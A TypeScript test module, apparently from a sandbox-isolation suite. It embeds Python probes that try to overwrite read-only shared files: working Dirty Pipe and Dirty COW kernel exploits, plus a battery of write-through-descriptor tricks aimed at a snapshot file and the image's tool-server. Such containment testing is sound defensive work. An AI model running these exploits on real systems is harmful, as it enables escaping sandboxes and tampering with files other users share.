import type { Attack } from '../../attack.ts';
import { probe } from '../../probes.ts';

const python = String.raw;

/** A file of the snapshot, which all workspaces share, and one of the image, which all sandboxes do. */
const targets = python`
targets = {'/workspace/src/a.ts': b'export const a', '/opt/patchfleet/tool-server.js': open('/opt/patchfleet/tool-server.js', 'rb').read(14)}
def judge(tried):
    changed = [p for p, head in targets.items() if open(p, 'rb').read(14) != head]
    if changed: say('escaped', 'changed: ' + ', '.join(changed))
    else: say('contained', tried)
`;

/** What attempts share because nobody can write it: changed all the same, every later attempt would have it. */
export const shared: readonly Attack[] = [
  probe('page through a pipe', 'to write a page of a file that may only be read (CVE-2022-0847)', {
    python: python`${targets}
done = 0
for path in targets:
    fd = os.open(path, os.O_RDONLY)
    r, w = os.pipe()
    # Filled and emptied, so that each of its buffers remembers that it may be appended to.
    size = 65536
    os.write(w, b'x' * size); os.read(r, size)
    done += os.splice(fd, w, 1, offset_src=0)
    os.write(w, b'OWNED')
    os.close(fd)
judge('%d pages went into pipes, and are as they were' % done) if done == len(targets) else say('untried', 'nothing was spliced')`,
  }),
  probe('page through its own memory', 'to write such a page while it is copied (CVE-2016-5195)', {
    python: python`${targets}
import mmap, threading
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
wrote = 0
for path in targets:
    fd = os.open(path, os.O_RDONLY)
    place = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, fd, 0)
    over = False
    def forget():
        while not over: libc.madvise(place, 4096, 4)
    other = threading.Thread(target=forget); other.start()
    try:
        with open('/proc/self/mem', 'r+b', buffering=0) as memory:
            for _ in range(2000):
                memory.seek(place)
                wrote += memory.write(b'OWNED')
    except OSError as e: error = errno.errorcode[e.errno]
    over = True; other.join(); os.close(fd)
judge('%d bytes went into copies of its own' % wrote if wrote else 'its memory cannot be written: ' + error)`,
  }),
  probe(
    'snapshot by a descriptor',
    'to write a file of the snapshot by a descriptor that was opened to read',
    {
      python: python`${targets}
import fcntl, mmap
ways = []
def attempt(name, act):
    try: act(); ways.append(name)
    except (OSError, ValueError): pass
def rewrite(path, flags=os.O_WRONLY):
    fd = os.open(path, flags); os.pwrite(fd, b'OWNED', 0); os.close(fd)
path = '/workspace/lib/c.ts'
fd = os.open(path, os.O_RDONLY)
own = '/proc/self/fd/%d' % fd
attempt('mode', lambda: os.fchmod(fd, 0o777))
attempt('times', lambda: os.utime(fd, (0, 0)))
attempt('attribute', lambda: os.setxattr(fd, 'user.owned', b'y'))
attempt('flags', lambda: fcntl.ioctl(fd, 0x40086602, struct.pack('l', 0x20)))
attempt('truncated', lambda: os.ftruncate(fd, 0))
attempt('mapped', lambda: mmap.mmap(fd, 1, mmap.MAP_SHARED, mmap.PROT_WRITE).write(b'O'))
attempt('allocated', lambda: os.posix_fallocate(fd, 0, 1 << 16))
attempt('cloned over', lambda: fcntl.ioctl(fd, 0x40049409, os.open('/opt/patchfleet/tool-server.js', os.O_RDONLY)))
attempt('opened again', lambda: rewrite(own, os.O_RDWR))
attempt('second name', lambda: (os.link(path, '/workspace/lib/second'), rewrite('/workspace/lib/second')))
attempt('second name of a descriptor', lambda: (os.link(own, '/workspace/lib/third', follow_symlinks=True), rewrite('/workspace/lib/third')))
attempt('renamed', lambda: (os.rename('/workspace/lib', '/workspace/gone'), rewrite('/workspace/gone/swapped/d.ts')))
# What became of it is looked at from outside, in the snapshot, and by the neighbour.
say('contained', 'in its own workspace alone: ' + ', '.join(ways)) if 'opened again' in ways else say('untried', ways)`,
    },
  ),
];
